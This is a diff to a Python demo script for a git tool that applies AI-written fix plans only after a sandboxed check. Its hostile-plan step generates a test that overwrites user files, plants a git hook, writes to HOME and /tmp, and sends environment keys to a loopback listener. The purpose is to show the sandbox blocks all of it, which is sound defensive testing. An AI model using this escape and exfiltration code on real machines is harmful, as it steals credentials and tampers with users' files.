@@ -8,13 +8,19 @@ agent mode with a scripted tool-calling server, traces, memory, the pre-commit h
 flow with the embedded model.
 Where bubblewrap cannot run, the check runs unsandboxed: the demo says so and
 skips the hostile step's strict assertions.
+
+`python demo/run_demo.py STEP...` runs only those steps (doctor, observability and
+hooks use the sample repository of the apply step).
 """
 
 from __future__ import annotations
 
+import argparse
 import hashlib
+import importlib.util
 import json
 import os
+import shlex
 import shutil
 import subprocess
 import sys
@@ -23,6 +29,8 @@ from pathlib import Path
 
 ROOT = Path(__file__).resolve().parent.parent
 WORK = ROOT / "demo-work"
+# Each sample repository's check; quoted, as the interpreter's path may hold a space.
+CHECK = f"{shlex.quote(sys.executable)} -m pytest -q -p no:cacheprovider"
 # The check's sandbox here: None = bwrap works (tried once), else why the check runs unsandboxed.
 SANDBOX_REASON: str | None = None
 
@@ -34,7 +42,7 @@ def step(text: str) -> None:
 def sh(
     *args: str, cwd: Path = WORK, check: bool = True, env: dict[str, str] | None = None, show: bool = True
 ) -> subprocess.CompletedProcess[str]:
-    print("$ " + " ".join(args), flush=True)
+    print("$ " + shlex.join(args), flush=True)
     proc = subprocess.run(args, cwd=cwd, text=True, capture_output=True, env={**os.environ, **env} if env else None)
     if show:
         sys.stdout.write(proc.stdout)
@@ -107,10 +115,9 @@ def patch_plan(new_line: str, summary: str) -> dict[str, object]:
 
 def demo_apply(papayu: list[str]) -> None:
     repo = sample_repo()
-    check = f"{sys.executable} -m pytest -q -p no:cacheprovider"
-    sh("git", "config", "papayu.checkCommand", check, cwd=repo)
+    sh("git", "config", "papayu.checkCommand", CHECK, cwd=repo)
     step("The sample project's test fails")
-    assert sh(*check.split(), cwd=repo, check=False).returncode != 0
+    assert sh(*shlex.split(CHECK), cwd=repo, check=False).returncode != 0
     head = sh("git", "rev-parse", "HEAD", cwd=repo).stdout.strip()
 
     step("A WRONG plan (a * b) is committed and checked in an isolated checkout; the check fails -> rolled back")
@@ -129,7 +136,7 @@ def demo_apply(papayu: list[str]) -> None:
     proc = sh(*papayu, "apply", str(WORK / "fix.json"), cwd=repo)
     sh("git", "log", "-1", "--format=%h %s%n%n%b", cwd=repo)
     assert "return a + b" in (repo / "calc.py").read_text() and (repo / "NOTES.md").exists()
-    sh(*check.split(), cwd=repo)
+    sh(*shlex.split(CHECK), cwd=repo)
     show_check_sandbox(repo, proc.stderr)
     step("Plans and their states")
     sh(*papayu, "list", cwd=repo)
@@ -169,33 +176,62 @@ def demo_doctor(papayu: list[str]) -> None:
 FAKE_KEY = "sk-demo-0000-not-a-real-key"
 
 
-def _attack_test(user_repo: Path, outside: Path, port: int) -> str:
-    """The test file of a hostile plan: it tries to get out of the check, prints what it got,
-    and (written as an exploit's proof) passes only if it stole a key."""
+def escape_targets(repo: Path, marker: str) -> dict[str, Path]:
+    """Where the hostile test tries to write, as paths of this machine: the user's files, a git
+    hook, beside the repository, HOME and /tmp. New files carry the marker in their names, and
+    every write appends it: no file can look escaped but by the attack's own hand."""
+    return {
+        "overwrite your notes": repo / "NOTES.md",
+        "edit your calc.py": repo / "calc.py",
+        "plant a git hook in your .git/hooks": repo / ".git" / "hooks" / "post-checkout",
+        "write outside the repository": repo.parent / f"pwned-{marker}.txt",
+        "write into your HOME": Path.home() / f".papayu-demo-{marker}",
+        "write into the machine's /tmp": Path("/tmp") / f"papayu-demo-{marker}",
+    }
+
+
+def reached_host(targets: dict[str, Path], marker: str) -> list[str]:
+    """The attempts whose marker is in the file on this machine after the check.
+
+    Judged here, outside the sandbox, never from what the sandboxed test printed: a write into
+    the sandbox's private /tmp or HOME, or into its own checkout, succeeds in there and vanishes
+    with it (docs/DESIGN.md, "The check's trust boundary")."""
+    found = []
+    for what, path in targets.items():
+        try:
+            if marker.encode() in path.read_bytes():
+                found.append(what)
+        except OSError:  # absent, or not a readable file: nothing of the attack arrived there
+            continue
+    return found
+
+
+def _attack_test(targets: dict[str, Path], marker: str, port: int) -> str:
+    """The test file of a hostile plan: it appends the marker to every target, tries the network,
+    prints what it saw from inside, and (written as an exploit's proof) passes only if it stole a key."""
+    attempts = [(what, str(path)) for what, path in targets.items()]
     return textwrap.dedent(f"""\
         import os, socket
 
-        REPO, OUTSIDE, PORT = {str(user_repo)!r}, {str(outside)!r}, {port}
+        TARGETS, MARKER, PORT = {attempts!r}, {marker!r}, {port}
 
 
         def attempt(what, action):
             try:
                 action()
-                print(f"ATTACK {{what}}: ESCAPED")
+                print(f"ATTACK {{what}}: written, as the test sees it")
             except Exception as exc:
                 print(f"ATTACK {{what}}: blocked ({{type(exc).__name__}}: {{exc}})")
 
 
-        def append(path, text="pwned by the plan\\n"):
+        def append(path):
             with open(path, "a") as f:
-                f.write(text)
+                f.write(MARKER + "\\n")
 
 
         def test_hostile():
-            attempt("overwrite your notes " + os.path.join(REPO, "NOTES.md"), lambda: append(os.path.join(REPO, "NOTES.md")))
-            attempt("edit your calc.py", lambda: append(os.path.join(REPO, "calc.py"), "import os  # backdoor\\n"))
-            attempt("plant a git hook in your .git/hooks", lambda: append(os.path.join(REPO, ".git/hooks/post-checkout")))
-            attempt("write outside the repository " + OUTSIDE, lambda: append(OUTSIDE))
+            for what, path in TARGETS:
+                attempt(f"{{what}} {{path}}", lambda path=path: append(path))
             stolen = {{k: v for k, v in os.environ.items() if any(w in k for w in ("KEY", "TOKEN", "SECRET"))}}
             print("ATTACK read API keys from the environment:", sorted(stolen) or "none there")
             attempt(f"send them to 127.0.0.1:{{PORT}}",
@@ -209,27 +245,73 @@ def demo_hostile(papayu: list[str]) -> None:
     """A plan is model-written code, and the check is where it first runs: its test is hostile."""
     step(
         "A HOSTILE plan: its new test tries to overwrite your files, plant a git hook, write outside "
-        "the repository, and steal an API key from papayu's environment"
+        "the repository, into HOME and /tmp, and steal an API key from papayu's environment"
     )
     repo = sample_repo("sample-hostile")
     (repo / "calc.py").write_text(BUGGY.replace("a - b", "a + b"))
     subprocess.run(["git", "commit", "-q", "-am", "fix add"], cwd=repo, check=True)
-    sh("git", "config", "papayu.checkCommand", f"{sys.executable} -m pytest -q -p no:cacheprovider", cwd=repo)
+    sh("git", "config", "papayu.checkCommand", CHECK, cwd=repo)
     (repo / "calc.py").write_text("# my uncommitted edit\n" + (repo / "calc.py").read_text())
-    outside = WORK / "pwned.txt"
+    marker = f"papayu-demo-escape-{os.urandom(8).hex()}"
+    targets = escape_targets(repo, marker)
     before = {p: (repo / p).read_bytes() for p in ("calc.py", "NOTES.md")}
     head = sh("git", "rev-parse", "HEAD", cwd=repo).stdout.strip()
     status = sh("git", "status", "--short", cwd=repo).stdout
+    try:
+        proc, accepted = _apply_hostile(papayu, repo, targets, marker)
+        escaped = reached_host(targets, marker)
+    finally:  # what the attack left on this machine goes, whatever the verdict
+        for path in targets.values():
+            if marker in path.name:
+                path.unlink(missing_ok=True)
+    logs = sorted((repo / ".git" / "papayu" / "checks").glob("*.log"), key=lambda p: p.stat().st_mtime)
+    log = logs[-1].read_text() if logs else ""
+    report = [line for line in log.splitlines() if line.startswith("ATTACK ")]
+    step(
+        "What the test saw from inside (the check's log): a write into the sandbox's private /tmp or "
+        "HOME, or into its own checkout, works in there and vanishes with the sandbox"
+    )
+    print("\n".join(report) or "(no report: the test did not run)")
+    step("What reached this machine, judged here outside the sandbox: the marker looked for at each target")
+    for what, path in targets.items():
+        print(f"{'ESCAPED' if what in escaped else 'blocked'}: {what} ({path})")
+    print(f"connections that reached the attacker's server: {accepted}")
+    if SANDBOX_REASON is not None:
+        print(
+            f"the check ran UNSANDBOXED here ({SANDBOX_REASON}): only the environment allowlist applied; "
+            "the hostile step's strict assertions are skipped (the files it wrote beside the "
+            "repository, in HOME and /tmp are removed)"
+        )
+        return
+    if escaped:
+        raise SystemExit(f"demo: the hostile test's writes reached this machine: {', '.join(escaped)}")
+    step(
+        "Blocked: the plan was rolled back, and nothing of yours changed; nothing outside the checkout "
+        "was written; no key reached the check"
+    )
+    assert proc.returncode == 1, "the hostile plan must not land"
+    assert sh("git", "rev-parse", "HEAD", cwd=repo).stdout.strip() == head
+    assert sh("git", "status", "--short", cwd=repo).stdout == status
+    assert all((repo / p).read_bytes() == data for p, data in before.items()), "your files must be unchanged"
+    assert accepted == 0 and FAKE_KEY not in log
+    assert len(report) >= len(targets) + 2, "the hostile test must have run"
+    assert "none there" in log, "no key may reach the check"
+
+
+def _apply_hostile(
+    papayu: list[str], repo: Path, targets: dict[str, Path], marker: str
+) -> tuple[subprocess.CompletedProcess[str], int]:
+    """`git papayu apply` the hostile plan with keys in papayu's environment and an attacker's
+    server listening; returns the run and how many connections reached the server."""
     from papayu_git.check.sandbox import LoopbackListener
 
-    listener = LoopbackListener()
-    try:
+    with LoopbackListener() as listener:
         plan = {
             "actions": [
                 {
                     "kind": "CREATE_FILE",
                     "path": "tests/test_hostile.py",
-                    "content": _attack_test(repo, outside, listener.port),
+                    "content": _attack_test(targets, marker, listener.port),
                 }
             ],
             "summary": "add a test",
@@ -245,35 +327,9 @@ def demo_hostile(papayu: list[str]) -> None:
             show=False,
             env={"OPENAI_API_KEY": FAKE_KEY, "GITHUB_TOKEN": "ghp_demo0000notarealtoken"},
         )
-    finally:
-        listener.close()
     sys.stdout.write(proc.stdout)  # the check's output tail is left out here: the report below is in it
     print("\n".join(line for line in proc.stderr.splitlines() if line.startswith(("check", "ERR_", "warning"))))
-    logs = sorted((repo / ".git" / "papayu" / "checks").glob("*.log"), key=lambda p: p.stat().st_mtime)
-    log = logs[-1].read_text() if logs else ""
-    report = [line for line in log.splitlines() if line.startswith("ATTACK ")]
-    step("What the attack's report says (from the check's log)")
-    print("\n".join(report) or "(no report: the test did not run)")
-    print(f"connections that reached the attacker's server: {listener.accepted}")
-    if SANDBOX_REASON is not None:
-        print(
-            f"the check ran UNSANDBOXED here ({SANDBOX_REASON}): only the environment allowlist applied; "
-            "the hostile step's strict assertions are skipped"
-        )
-        outside.unlink(missing_ok=True)
-        return
-    step(
-        "Blocked: the plan was rolled back, and nothing of yours changed; nothing outside the checkout "
-        "was written; no key reached the check"
-    )
-    assert proc.returncode == 1, "the hostile plan must not land"
-    assert sh("git", "rev-parse", "HEAD", cwd=repo).stdout.strip() == head
-    assert sh("git", "status", "--short", cwd=repo).stdout == status
-    assert all((repo / p).read_bytes() == data for p, data in before.items()), "your files must be unchanged"
-    assert not (repo / ".git" / "hooks" / "post-checkout").exists() and not outside.exists()
-    assert listener.accepted == 0 and FAKE_KEY not in log
-    assert len(report) >= 7 and not any("ESCAPED" in line for line in report), report
-    assert "none there" in log, "no key may reach the check"
+    return proc, listener.accepted
 
 
 def demo_agent(papayu: list[str]) -> None:
@@ -281,7 +337,7 @@ def demo_agent(papayu: list[str]) -> None:
     from scripted_agent import ScriptedAgentServer
 
     repo = sample_repo("sample-agent")
-    sh("git", "config", "papayu.checkCommand", f"{sys.executable} -m pytest -q -p no:cacheprovider", cwd=repo)
+    sh("git", "config", "papayu.checkCommand", CHECK, cwd=repo)
     head = sh("git", "rev-parse", "HEAD", cwd=repo, show=False).stdout.strip()
     server = ScriptedAgentServer()
     try:
@@ -347,16 +403,13 @@ def demo_local_model(papayu: list[str]) -> None:
 
     The tiny model is often wrong; a rejected answer or a rolled-back fix is a valid ending:
     the point is that nothing reaches the user's branch unless the check passes."""
-    import importlib.util
-    import os
-
     step("The whole flow with a real model: the embedded local llama.cpp server (Gemma 3 270M)")
     if importlib.util.find_spec("llama_cpp") is None:
         print("papayu-git[local] is not installed here (make venv installs it); skipping the model step")
         print(STRONGER_MODEL)
         return
     repo = sample_repo("sample-llm")
-    sh("git", "config", "papayu.checkCommand", f"{sys.executable} -m pytest -q -p no:cacheprovider", cwd=repo)
+    sh("git", "config", "papayu.checkCommand", CHECK, cwd=repo)
     head = sh("git", "rev-parse", "HEAD", cwd=repo).stdout.strip()
     env = {k: v for k, v in os.environ.items() if not k.startswith("PAPAYU_LLM_")}
     env.update(PAPAYU_LLM_MAX_TOKENS="400", PAPAYU_LLM_TIMEOUT_SEC="900", PAPAYU_LOG="1")
@@ -381,10 +434,32 @@ def demo_local_model(papayu: list[str]) -> None:
     print(STRONGER_MODEL)
 
 
-def main() -> None:
+STEPS = {
+    "validate": demo_validate,
+    "apply": demo_apply,
+    "doctor": demo_doctor,
+    "hostile": demo_hostile,
+    "agent": demo_agent,
+    "observability": demo_observability,
+    "hooks": demo_hooks,
+    "local_model": demo_local_model,
+}
+SUMMARY = (
+    "bad plans rejected, the wrong fix rolled back, the right fix landed after a {check} check, the hostile "
+    "plan's escapes {escapes}, a scripted agent run landed after its check, and the local model's attempt "
+    "ended cleanly"
+)
+
+
+def main(argv: list[str] | None = None) -> None:
     global SANDBOX_REASON
     from papayu_git.check.sandbox import unavailable_reason
 
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("steps", nargs="*", metavar="STEP", help="run only these: " + ", ".join(STEPS))
+    steps = parser.parse_args(argv).steps or list(STEPS)
+    if unknown := sorted(set(steps) - set(STEPS)):
+        parser.error(f"no step {', '.join(unknown)} (steps: {', '.join(STEPS)})")
     shutil.rmtree(WORK, ignore_errors=True)
     WORK.mkdir()
     papayu = [sys.executable, "-m", "papayu_git"]
@@ -396,21 +471,18 @@ def main() -> None:
         "the check's sandbox here: "
         + ("bwrap" if SANDBOX_REASON is None else f"none, the check runs UNSANDBOXED ({SANDBOX_REASON})")
     )
-    demo_validate(papayu)
-    demo_apply(papayu)
-    demo_doctor(papayu)
-    demo_hostile(papayu)
-    demo_agent(papayu)
-    demo_observability(papayu)
-    demo_hooks(papayu)
-    demo_local_model(papayu)
+    for name in STEPS:
+        if name in steps:
+            STEPS[name](papayu)
+    if len(steps) < len(STEPS):
+        print(f"\ndemo finished: {', '.join(name for name in STEPS if name in steps)}")
+        return
+    sandboxed = SANDBOX_REASON is None
     print(
-        "\ndemo finished: bad plans rejected, the wrong fix rolled back, the right fix landed after a "
-        + ("sandboxed" if SANDBOX_REASON is None else "(here unsandboxed)")
-        + " check, the hostile plan's "
-        "escapes "
-        + ("blocked" if SANDBOX_REASON is None else "reported")
-        + ", a scripted agent run landed after its check, and the local model's attempt ended cleanly"
+        "\ndemo finished: "
+        + SUMMARY.format(
+            check="sandboxed" if sandboxed else "(here unsandboxed)", escapes="blocked" if sandboxed else "reported"
+        )
     )
 
 
